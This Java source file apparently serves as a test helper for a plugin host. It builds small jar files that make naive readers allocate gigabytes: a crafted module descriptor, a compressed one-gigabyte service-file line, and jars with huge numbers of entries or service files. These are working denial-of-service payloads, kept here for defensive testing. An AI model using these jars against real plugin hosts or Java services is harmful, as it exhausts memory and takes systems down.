package dev.layerhost.pluginbuilder;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Jars crafted to exhaust whoever reads them naively, as an attacker would hand them to a plugin host.
 * Each is small on disk and costs its reader gigabytes:
 *
 * <pre>{@code
 * HostileJars.descriptorBomb(root.resolve("bomb.jar"), "p.bomb");      // ~330 KB, ~8 GB of names to read
 * HostileJars.serviceLineBomb(root.resolve("line.jar"), "acme.Api", 1L << 30);   // one 1 GB line
 * }</pre>
 */
public final class HostileJars {

    /** The longest name a constant pool entry holds (modified UTF-8, two-byte length). */
    private static final int LONG_NAME = 60_000;
    /** The most providers one {@code provides} clause can list (two-byte count). */
    private static final int MAX_REFERENCES = 65_535;

    private HostileJars() {
    }

    /**
     * A modular jar whose {@code module-info.class} (about 330 KB) declares {@code requires java.base} and
     * two {@code provides} clauses that each list one 60,000-character provider class name 65,535 times:
     * the JDK's descriptor reader makes a new string for every reference, about 8 GB in all, before it
     * finds the provider missing.
     */
    public static Path descriptorBomb(Path jar, String moduleName) {
        return descriptorBomb(jar, moduleName, "module-info.class", Map.of());
    }

    /**
     * As {@link #descriptorBomb(Path, String)}, the descriptor stored as entry {@code entryName} (a lookup
     * of {@code module-info.class} also finds {@code module-info.class/}) after the entries {@code before}
     * (a manifest to damage, say), in their order.
     */
    public static Path descriptorBomb(Path jar, String moduleName, String entryName, Map<String, byte[]> before) {
        try (OutputStream file = Files.newOutputStream(jar); ZipOutputStream zip = new ZipOutputStream(file)) {
            for (Map.Entry<String, byte[]> entry : new TreeMap<>(before).entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
            zip.putNextEntry(new ZipEntry(entryName));
            zip.write(moduleInfo(moduleName));
            zip.closeEntry();
            return jar;
        } catch (IOException e) {
            throw new UncheckedIOException("Cannot write " + jar, e);
        }
    }

    /**
     * A jar without {@code module-info.class} (an automatic module) whose
     * {@code META-INF/services/<serviceType>} is one line of {@code lineBytes} letters, deflated to about a
     * thousandth of that: whoever reads the file by lines holds the whole line at once.
     */
    public static Path serviceLineBomb(Path jar, String serviceType, long lineBytes) {
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(jar))) {
            zip.setLevel(Deflater.BEST_SPEED);
            zip.putNextEntry(new ZipEntry("META-INF/services/" + serviceType));
            byte[] letters = new byte[1 << 20];
            Arrays.fill(letters, (byte) 'a');
            long left = lineBytes;
            while (left > 0) {
                int chunk = (int) Math.min(letters.length, left);
                zip.write(letters, 0, chunk);
                left -= chunk;
            }
            zip.write('\n');
            zip.closeEntry();
            return jar;
        } catch (IOException e) {
            throw new UncheckedIOException("Cannot write " + jar, e);
        }
    }

    /**
     * A jar without {@code module-info.class} of {@code count} empty class entries {@code p<i>/<pad>.class},
     * each name {@code nameLength} bytes long at least, each in a package of its own: whoever derives an
     * automatic module's packages keeps every name and package.
     */
    public static Path manyEntries(Path jar, int count, int nameLength) {
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(jar))) {
            for (int i = 0; i < count; i++) {
                String start = "p" + i + "/C";
                zip.putNextEntry(new ZipEntry(start + "c".repeat(Math.max(0, nameLength - start.length() - 6)) + ".class"));
                zip.closeEntry();
            }
            return jar;
        } catch (IOException e) {
            throw new UncheckedIOException("Cannot write " + jar, e);
        }
    }

    /**
     * A jar without {@code module-info.class} with {@code files} service files of {@code linesEach} lines
     * {@code p.A}, each under a limit a reader might set per file, and many times it together: whoever
     * reads service files keeps a string per line.
     */
    public static Path manyServiceFiles(Path jar, int files, int linesEach) {
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(jar))) {
            byte[] lines = "p.A\n".repeat(linesEach).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < files; i++) {
                zip.putNextEntry(new ZipEntry("META-INF/services/p.S" + i));
                zip.write(lines);
                zip.closeEntry();
            }
            zip.putNextEntry(new ZipEntry("p/A.class"));
            zip.closeEntry();
            return jar;
        } catch (IOException e) {
            throw new UncheckedIOException("Cannot write " + jar, e);
        }
    }

    /** The class file of a module as {@link #descriptorBomb} describes it (JVMS 4.7.25). */
    private static byte[] moduleInfo(String moduleName) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(bytes);
        out.writeInt(0xCAFEBABE);
        out.writeShort(0);
        out.writeShort(53); // Java 9, the first with modules
        String longName = "p/" + "A".repeat(LONG_NAME);
        String[] utf8 = {"module-info", "Module", moduleName, "java.base", "p/S1", "p/S2", longName};
        // constant pool: 1..7 Utf8, 8 Class module-info, 9 Module self, 10 Module java.base,
        // 11 Class p/S1, 12 Class p/S2, 13 Class p/AAAA...
        out.writeShort(14);
        for (String text : utf8) {
            out.writeByte(1);
            byte[] encoded = text.getBytes(StandardCharsets.UTF_8);
            out.writeShort(encoded.length);
            out.write(encoded);
        }
        out.writeByte(7);
        out.writeShort(1);
        out.writeByte(19);
        out.writeShort(3);
        out.writeByte(19);
        out.writeShort(4);
        out.writeByte(7);
        out.writeShort(5);
        out.writeByte(7);
        out.writeShort(6);
        out.writeByte(7);
        out.writeShort(7);
        out.writeShort(0x8000); // ACC_MODULE
        out.writeShort(8); // this_class
        out.writeShort(0); // super_class
        out.writeShort(0); // interfaces
        out.writeShort(0); // fields
        out.writeShort(0); // methods
        out.writeShort(1); // attributes: Module
        ByteArrayOutputStream attributeBytes = new ByteArrayOutputStream();
        DataOutputStream attribute = new DataOutputStream(attributeBytes);
        attribute.writeShort(9); // module_name_index
        attribute.writeShort(0); // module_flags
        attribute.writeShort(0); // no version
        attribute.writeShort(1); // requires
        attribute.writeShort(10);
        attribute.writeShort(0x8000); // ACC_MANDATED
        attribute.writeShort(0);
        attribute.writeShort(0); // exports
        attribute.writeShort(0); // opens
        attribute.writeShort(0); // uses
        attribute.writeShort(2); // provides
        for (int service : new int[] {11, 12}) {
            attribute.writeShort(service);
            attribute.writeShort(MAX_REFERENCES);
            for (int i = 0; i < MAX_REFERENCES; i++) {
                attribute.writeShort(13);
            }
        }
        attribute.flush();
        out.writeShort(2); // attribute_name_index: "Module"
        out.writeInt(attributeBytes.size());
        attributeBytes.writeTo(out);
        out.flush();
        return bytes.toByteArray();
    }
}
